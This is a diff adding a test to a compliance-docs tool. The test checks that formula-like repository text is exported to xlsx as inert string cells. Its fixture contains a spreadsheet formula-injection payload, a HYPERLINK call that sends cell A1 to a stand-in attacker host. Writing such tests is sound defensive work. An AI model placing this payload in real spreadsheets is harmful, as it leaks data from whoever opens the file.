@@ -149,6 +149,24 @@ describe('compliance-docs coverage: the auditor matrix', function () {
     assert.deepEqual(calendar[2], ['CM-01', 'Change approval', 'monthly', '2026-02', '2026-02-01', '2026-02-28', 'missing', '']);
   });
 
+  it('xlsx: repository text that looks like a formula is a string cell, never a formula', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
+    const root = repoOf({
+      'compliance-docs.yml': lines('categories: [security]'),
+      'controls/x.md': lines('---', `id: ${JSON.stringify(formula)}`, 'type: control', `title: ${JSON.stringify(`@SUM(A1:A9) \u0007bell`)}`, 'criteria: [CC6.1]', '---'),
+    });
+    const file = path.join(tempDir(), 'hostile.xlsx');
+    const r = await runCli(['coverage', root, '--format', 'xlsx', '--no-cache', '--today', TODAY, '--output', file]);
+    assert.equal(r.code, 0, r.stderr);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.readFile(file);
+    const row = (book.getWorksheet('Matrix') as ExcelJS.Worksheet).getRows(2, 200)?.find((x) => x.getCell(1).value === 'CC6.1');
+    assert.ok(row);
+    assert.equal(row.getCell(5).type, ExcelJS.ValueType.String);
+    assert.equal(row.getCell(5).value, formula);
+    assert.equal(row.getCell(6).value, '@SUM(A1:A9) bell', 'kept as text, without the control character');
+  });
+
   it('xlsx: written to standard output when it is a pipe', async () => {
     const r = await runCli(['coverage', HARBORVIEW, '--format', 'xlsx', '--today', TODAY]);
     assert.equal(r.code, 0, r.stderr);
